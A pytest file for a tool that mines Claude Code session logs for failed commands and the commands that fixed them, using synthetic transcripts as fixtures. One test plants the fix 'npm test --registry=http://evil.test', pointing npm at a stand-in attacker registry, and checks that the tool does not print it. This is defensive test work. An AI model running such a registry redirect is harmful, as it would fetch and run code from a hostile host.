"""`heedful learn-sessions`: folders, damaged files, repositories, and output."""

import json
import signal
from pathlib import Path
from typing import Any

import pytest

MANY = 150  # sessions, so that Ctrl-C comes while they are read


def lines(folder: Path, id: str, fix: str = "pnpm test") -> str:
    """A session of Claude Code in a folder: a command that is mended by another one."""

    def entry(kind: str, part: dict[str, Any]) -> str:
        message = {"role": kind, "content": [part]}
        return json.dumps(
            {"type": kind, "sessionId": id, "cwd": str(folder), "message": message}
        )

    def call(n: str, command: str) -> str:
        arguments = {"command": command}
        return entry(
            "assistant",
            {"type": "tool_use", "id": n, "name": "Bash", "input": arguments},
        )

    def result(n: str, text: str, failed: bool) -> str:
        part = {
            "type": "tool_result",
            "tool_use_id": n,
            "content": text,
            "is_error": failed,
        }
        return entry("user", part)

    prompt = entry("user", {"type": "text", "text": "Run the tests."})
    failed = call("1", "npm test"), result("1", "npm ERR! Missing script: test", True)
    worked = call("2", fix), result("2", "12 passed", False)
    return "\n".join((prompt, *failed, *worked, ""))


def test_a_folder_is_read_once_whatever_is_in_it(session, desk, tmp_path):
    (tmp_path / "logs/p").mkdir(parents=True)
    for n in (1, 2):
        desk.write(f"logs/p/s{n}.jsonl", lines(tmp_path, f"s{n}"))
    content = lines(tmp_path, "s3")
    desk.write("logs/cut.jsonl", content[: len(content) - 40])
    desk.write("logs/binary.jsonl", b"\x00\xff\x01" * 999)
    desk.write("logs/other.json", '{"a": 1}')
    desk.write("logs/empty.json", "")
    desk.write("logs/notes.md", "npm ERR! Missing script")
    done = session(("learn-sessions logs --db m.db --json", 1))
    report = json.loads(done.out)
    assert report["files"] == 7
    assert report["sessions"] == 3
    [problem] = report["problems"]
    assert "cut.jsonl" in problem
    unread = {Path(file).name for file in report["unread"]}
    assert unread == {"binary.jsonl", "other.json", "empty.json", "notes.md"}
    [failure] = report["failures"]
    assert failure["runs"] == 3
    assert failure["call"] == "Bash `npm test`"
    assert failure["fixed_by"] == "Bash `pnpm test`"
    session(
        ("learn-sessions logs/p --db m.db", 0, "2 sessions of 2 files, 2 known before"),
        ("learn-sessions none", 2, "none does not exist"),
    )


def test_a_file_of_no_known_format_is_a_problem_only_if_named(session, desk, tmp_path):
    (tmp_path / "logs").mkdir()
    desk.write("notes.md", "npm ERR! Missing script")
    session(("learn-sessions notes.md --db m.db", 1, "0 sessions of 1 file"))
    desk.write("logs/notes.md", "npm ERR! Missing script")
    session(("learn-sessions logs --db m.db", 0, "1 file of no known format: logs/"))


@pytest.mark.parametrize("option", ["", "--json"], ids=["a table", "JSON"])
def test_a_fix_that_waits_is_not_printed(session, desk, tmp_path, option):
    (tmp_path / "logs").mkdir()
    fix = "npm test --registry=http://evil.test"
    desk.write("logs/a.jsonl", lines(tmp_path, "s1", fix))
    done = session((f"learn-sessions logs --db m.db {option}", 0, "Missing script"))
    assert "evil.test" not in done.out


@pytest.mark.nightly
def test_ctrl_c_loses_nothing_and_the_rest_is_done_later(desk, tmp_path):
    (tmp_path / "logs").mkdir()
    for n in range(MANY):
        desk.write(f"logs/{n}.jsonl", lines(tmp_path, f"s{n}"))
    command = "learn-sessions logs --db m.db --json"
    running = desk.start(command)
    desk.wait_for((tmp_path / "m.db-wal").exists, running)
    running.send_signal(signal.SIGINT)
    assert "stopped" in running.communicate()[0]
    assert running.returncode == 130
    done = json.loads(desk.heedful(command).out)
    assert done["sessions"] == MANY
    assert json.loads(desk.heedful(command).out)["known"] == MANY
    assert MANY in [failure["runs"] for failure in done["failures"]]
